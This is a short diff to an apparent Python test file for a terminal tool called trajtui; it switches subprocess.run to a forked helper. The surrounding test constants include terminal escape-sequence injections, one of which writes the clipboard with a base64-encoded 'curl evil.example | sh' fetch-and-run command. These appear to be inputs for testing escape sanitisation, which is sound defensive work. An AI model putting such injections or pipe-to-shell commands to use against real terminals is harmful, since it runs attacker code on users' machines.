@@ -38,6 +38,7 @@ from markdown_it import MarkdownIt
 from tests.formats.acp.builders import capture, step_message, step_thought, step_tool, trials
 from tests.formats.forecast import builders as bf
 from tests.formats.ultraplan import builders as bu
+from tests.helpers import forked
 
 OSC0 = "\x1b]0;PWNED\x07"
 OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # "curl evil.example | sh"
@@ -119,7 +120,7 @@ def trajtui(root: Path, *args: str, color: bool = False) -> subprocess.Completed
     env = {**os.environ, "COLUMNS": "160"}
     env.update({"FORCE_COLOR": "1"} if color else {"NO_COLOR": "1"})
     env.pop("FORCE_COLOR" if not color else "NO_COLOR", None)
-    return subprocess.run(
+    return forked.run(
         [sys.executable, "-m", "trajtui", *args],
         capture_output=True,
         cwd=root,
